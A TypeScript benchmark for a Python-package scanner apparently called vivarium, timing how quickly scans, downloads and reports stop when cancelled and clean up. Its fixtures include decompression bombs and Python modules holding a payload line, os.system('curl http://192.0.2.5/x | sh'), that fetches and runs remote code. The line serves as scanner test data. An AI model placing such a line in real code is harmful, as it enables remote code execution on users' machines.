/**
 * `node test/bench/cancelling.ts`: how long after it is told to stop a scan, a download and a report answer, and how long until nothing of them is left: no
 * process, no file in the store. The worst of some tries each, told to stop at moments spread over the work. Printed as a table; no pass mark.
 */
import { spawn } from "node:child_process";
import { mkdir, mkdtemp, readdir, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { setTimeout as pause } from "node:timers/promises";
import { fileURLToPath } from "node:url";
import { gzipSync } from "node:zlib";
import { collectCase } from "../../main/api/session/collect-case.ts";
import { createWorkshop } from "../../main/api/workshop/workshop.ts";
import { writeReport } from "../../main/api/workshop/write-report.ts";
import type { ArtifactSource } from "../../main/archive/open-artifact.ts";
import { createIndexClient } from "../../main/pypi/index-client.ts";
import { createScanPool, type ScanPoolOptions } from "../../main/scan/scan-pool.ts";
import { overlapBomb, tarXzBomb } from "../support/bombs.ts";
import { startLoopbackIndex } from "../support/loopback-index.ts";
import { childrenOf, isRunning } from "../support/processes.ts";
import { buildTar } from "../support/tar-builder.ts";
import { buildZip } from "../support/zip-builder.ts";

const TRIES = 5;
const program = fileURLToPath(new URL("../../main/cli/vivarium.ts", import.meta.url));
const folder = await mkdtemp(join(tmpdir(), "vivarium-cancelling-"));
process.env["XDG_CACHE_HOME"] = join(folder, "cache");
const store = join(folder, "cache", "vivarium", "members");

const payload = "import os\nos.system('curl http://192.0.2.5/x | sh')\nos.remove('a')\n";
const modules = (count: number) =>
	Array.from({ length: count }, (_, index) => ({ name: `pkg/m${index}.py`, content: `${payload}x = ${index}\n` }));
const parse = Array.from({ length: 100_000 }, (_, index) => `x${index} = f(${index}, "a", [1, 2, 3]).b`).join("\n");
const text = Buffer.alloc(250 * 1024 * 1024, "import os, sys  # 0123456789 abcdef\n");

/** What is scanned, the phase that it is stopped in, and how far into it, in milliseconds. */
interface Subject {
	readonly name: string;
	readonly filename: string;
	readonly bytes: Uint8Array;
	readonly phase: "unpacking" | "reading" | "judging";
	readonly spread: number;
}

const subjects: readonly Subject[] = [
	{ name: "opening a bomb (tar.xz)", filename: "b-1.tar.xz", bytes: tarXzBomb(), phase: "unpacking", spread: 2_000 },
	{
		name: "opening a bomb (overlaps)",
		filename: "b-1.zip",
		bytes: await overlapBomb(60_000),
		phase: "unpacking",
		spread: 3_000,
	},
	{
		name: "opening a member of 250 MB",
		filename: "b-1.tar.gz",
		bytes: gzipSync(buildTar([...modules(1), { name: "b.txt", content: text.subarray(0, text.length / 1.5) }]), {
			level: 1,
		}),
		phase: "unpacking",
		spread: 3_000,
	},
	{
		name: "parsing a file of 4 MB",
		filename: "p-1.zip",
		bytes: buildZip([{ name: "p.py", content: parse }]),
		phase: "reading",
		spread: 3_000,
	},
	{
		name: "judging 1,500 files",
		filename: "j-1.zip",
		bytes: buildZip(modules(1_500)),
		phase: "judging",
		spread: 2_000,
	},
];

async function filesIn(place: string): Promise<number> {
	try {
		return (await readdir(place)).length;
	} catch {
		// Nothing was ever put there.
		return 0;
	}
}

async function until(done: () => Promise<boolean> | boolean): Promise<void> {
	while (!(await done())) await pause(5);
}

const worst = (list: readonly number[]): string => `${Math.round(Math.max(...list))} ms`;

interface Row {
	readonly what: string;
	readonly answered: string;
	readonly gone: string;
}
const rows: Row[] = [];
function tell(row: Row): void {
	rows.push(row);
	console.log(`${row.what}: ${row.answered}, ${row.gone}`);
}

/** Of a pool: workers may stay for what comes next, busy ones may not. */
async function measurePool(name: string, options: ScanPoolOptions): Promise<void> {
	for (const subject of subjects) {
		const answered: number[] = [];
		const gone: number[] = [];
		for (let attempt = 0; attempt < TRIES; attempt++) {
			const pool = createScanPool({ jobs: 1, ...options });
			await pool.syntaxEngine();
			const before = childrenOf(process.pid);
			const stop = new AbortController();
			let stoppedAt = 0;
			let begun = false;
			const source: ArtifactSource = {
				kind: "bytes",
				filename: subject.filename,
				bytes: subject.bytes,
				origin: "upload",
			};
			const end = (): void => {
				stoppedAt = performance.now();
				stop.abort();
			};
			const onProgress = ({ phase }: { phase: string }): void => {
				if (begun || (phase !== subject.phase && phase !== "judging")) return;
				begun = true;
				setTimeout(end, (subject.spread * attempt) / TRIES);
			};
			// What tells nothing is stopped all the same.
			const late = setTimeout(end, 30_000);
			const scanned = await pool.scan(source, { signal: stop.signal, onProgress }).catch(() => undefined);
			clearTimeout(late);
			const now = performance.now();
			if (scanned === undefined && stoppedAt > 0) answered.push(now - stoppedAt);
			await scanned?.close();
			// A process that did nothing yet is kept for what comes next.
			const busy = options.workers === "process" && scanned === undefined;
			await until(async () => !busy || before.every((id) => !isRunning(id)) || childrenOf(process.pid).length === 0);
			await until(async () => (await filesIn(store)) === 0);
			if (scanned === undefined && stoppedAt > 0) gone.push(performance.now() - stoppedAt);
			await pool.close();
		}
		const what = `${name}: ${subject.name}`;
		if (answered.length === 0) tell({ what, answered: "over before it was stopped", gone: "–" });
		else tell({ what, answered: worst(answered), gone: worst(gone) });
	}
}

async function measureCommand(): Promise<void> {
	const temporary = join(folder, "temporary");
	await mkdir(temporary);
	const cases: (readonly [string, readonly string[], number])[] = [];
	for (const { name, filename, bytes, spread } of subjects) {
		const path = join(folder, `${name.replace(/\W+/g, "-")}-${filename}`);
		await writeFile(path, bytes);
		cases.push([name, [path], spread + 1_000]);
	}
	const last = cases.at(-1)?.[1] ?? [];
	cases.push(["writing a report of 1,500 files", [...last, "--format", "html"], 5_000]);
	for (const [name, args, spread] of cases) {
		const times: number[] = [];
		for (let attempt = 0; attempt < TRIES; attempt++) {
			const child = spawn(process.execPath, [program, "scan", ...args, "--jobs", "1"], {
				env: { ...process.env, TMPDIR: temporary },
				stdio: "ignore",
				detached: true,
			});
			const ended = new Promise((resolve) => child.once("close", resolve));
			const pid = child.pid ?? 0;
			await Promise.race([until(() => childrenOf(pid).length > 0), ended]);
			await Promise.race([pause((spread * (attempt + 1)) / TRIES), ended]);
			if (child.exitCode !== null) continue;
			const started = childrenOf(pid);
			const at = performance.now();
			process.kill(-pid, "SIGINT");
			await ended;
			await until(() => !started.some(isRunning));
			times.push(performance.now() - at);
			const left = (await filesIn(temporary)) + (await filesIn(store));
			if (left > 0) console.log(`${name}: ${left} files left behind`);
		}
		const time = times.length === 0 ? "over before it was stopped" : worst(times);
		tell({ what: `Ctrl+C: ${name}`, answered: time, gone: time });
	}
}

async function measureDownload(): Promise<void> {
	const file = { filename: "pkg-1.0-py3-none-any.whl", bytes: buildZip(modules(100)) };
	const index = await startLoopbackIndex(new Map([["pkg", [file]]]), { stallFile: 500 });
	const times: number[] = [];
	for (let attempt = 0; attempt < TRIES; attempt++) {
		const client = createIndexClient({ indexUrl: index.url });
		const stop = new AbortController();
		const got = client.download({ project: "pkg" }, { signal: stop.signal }).catch(() => undefined);
		await pause(200 + attempt * 50);
		const at = performance.now();
		stop.abort();
		await got;
		times.push(performance.now() - at);
	}
	await index.close();
	tell({ what: "a download that stands still", answered: worst(times), gone: worst(times) });
}

async function measureReport(): Promise<void> {
	const pool = createScanPool({ jobs: 1 });
	const bytes = buildZip(modules(3_000));
	const scanned = await pool.scan({ kind: "bytes", filename: "r-1.zip", bytes, origin: "upload" });
	const state = {
		artifactId: scanned.analysis.artifact.id,
		findings: new Map(),
		verdict: { verdict: "unreviewed", note: "", author: "", at: "" },
		marks: [],
		orphans: [],
		kept: [],
		seen: [],
		entries: 0,
	} as const;
	const workshop = createWorkshop();
	for (const format of ["markdown", "html", "json"] as const) {
		const answered: number[] = [];
		for (let attempt = 0; attempt < TRIES; attempt++) {
			const stop = new AbortController();
			let at = 0;
			setTimeout(
				() => {
					at = performance.now();
					stop.abort();
				},
				10 + attempt * 100,
			);
			const subject = await collectCase(
				scanned,
				{ ...state, marks: [], orphans: [], kept: [], seen: [] },
				{
					reportedAt: new Date(),
					toolVersion: "0",
				},
			);
			await writeReport(workshop, format, subject, { signal: stop.signal }).catch(() => undefined);
			if (at > 0) answered.push(performance.now() - at);
		}
		const what = `a report of ${scanned.analysis.findings.length} findings (${format})`;
		tell({ what, answered: worst(answered), gone: worst(answered) });
	}
	await workshop.close();
	await scanned.close();
	await pool.close();
}

await measurePool("desktop (threads)", { workers: "thread", indexCode: true });
await measurePool("web host (processes)", { workers: "process", indexCode: true });
await measurePool("command line", { workers: "process", content: "worker" });
await measureCommand();
await measureDownload();
await measureReport();
await rm(folder, { recursive: true, force: true });
console.log("\n| what is stopped | answers after | nothing left after |\n|---|---|---|");
for (const { what, answered, gone } of rows) console.log(`| ${what} | ${answered} | ${gone} |`);
